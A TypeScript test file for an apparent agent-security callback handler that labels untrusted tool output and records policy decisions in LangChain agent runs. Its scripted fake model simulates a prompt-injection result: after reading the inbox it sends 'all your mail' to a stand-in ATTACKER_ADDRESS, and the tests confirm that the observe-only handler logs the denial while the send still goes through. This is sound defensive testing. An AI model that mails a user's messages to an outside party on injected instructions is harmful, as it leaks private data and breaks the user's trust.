import { createSession, type SessionEvent } from '@labelflow/core';
import { AIMessage, HumanMessage } from '@langchain/core/messages';
import { MemorySaver } from '@langchain/langgraph';
import { createAgent, fakeModel } from 'langchain';
import { describe, expect, it } from 'vitest';
import { createThreadSessions } from './create-thread-sessions.js';
import { LabelflowCallbackHandler } from './labelflow-callback-handler.js';
import { ATTACKER_ADDRESS, decisionsOf, mailTools, USER_ADDRESS, USER_PROMPT } from './test-support/mail-tools.js';

function attackModel() {
  return fakeModel()
    .respondWithTools([{ name: 'read_inbox', args: {}, id: 'read' }])
    .respondWithTools([
      { name: 'send_email', args: { to: ATTACKER_ADDRESS, body: 'all your mail' }, id: 'leak' },
      { name: 'send_email', args: { to: USER_ADDRESS, body: 'Two mails.' }, id: 'summary' },
    ])
    .respond(new AIMessage('done'));
}

describe('LabelflowCallbackHandler', () => {
  it('should record prompts, decisions and labelled results of a run it does not enforce', async () => {
    const { tools, executed } = mailTools();
    const session = createSession({ policy: {} });
    const events: SessionEvent[] = [];
    session.subscribe((event) => events.push(event));
    const agent = createAgent({ model: attackModel(), tools });

    await agent.invoke({ messages: [new HumanMessage(USER_PROMPT)] }, { callbacks: [new LabelflowCallbackHandler({ session })] });

    expect(decisionsOf(events).sort()).toEqual(['read_inbox:allow', 'send_email:allow', 'send_email:deny:no-send-to-unknown'].sort());
    const read = events.find((event) => event.type === 'tool-result' && event.tool === 'read_inbox');
    expect(read).toMatchObject({ labels: ['untrusted'], taint: ['src:tool:read_inbox', 'untrusted'] });
    expect(events.filter((event) => event.type === 'model-call').map((event) => event.type === 'model-call' && event.influenced)).toEqual([false, true, true]);
    // Observe-only: the call the policy denies ran anyway.
    expect(executed.map((entry) => entry.args)).toContainEqual({ to: ATTACKER_ADDRESS, body: 'all your mail' });
  });

  it('should not block even a call it records as denied, on a plain tool.invoke', async () => {
    const { sendEmail, executed } = mailTools();
    const session = createSession({ policy: {} });
    const events: SessionEvent[] = [];
    session.subscribe((event) => events.push(event));

    const output = await sendEmail.invoke({ to: ATTACKER_ADDRESS, body: 'hi' }, { callbacks: [new LabelflowCallbackHandler({ session })] });

    expect(output).toBe(`sent to ${ATTACKER_ADDRESS}`);
    expect(executed).toHaveLength(1);
    expect(decisionsOf(events)).toEqual(['send_email:deny:no-send-to-unknown']);
  });

  it('should record into the session of the run’s thread', async () => {
    const sessions = createThreadSessions({ policy: {} });
    const { tools } = mailTools();
    const agent = createAgent({ model: attackModel(), tools, checkpointer: new MemorySaver() });
    const handler = new LabelflowCallbackHandler({ sessions });

    await agent.invoke({ messages: [new HumanMessage(USER_PROMPT)] }, { configurable: { thread_id: 'observed' }, callbacks: [handler] });

    const session = sessions.get('observed');
    expect(session?.tools.history.map((entry) => `${entry.tool}:${entry.decision}`).sort()).toEqual(['read_inbox:allow', 'send_email:allow', 'send_email:deny'].sort());
    expect(session?.context.labels).toEqual(expect.arrayContaining(['untrusted']));
  });

  it('should refuse to be built without a session', () => {
    expect(() => new LabelflowCallbackHandler({})).toThrow(TypeError);
  });
});
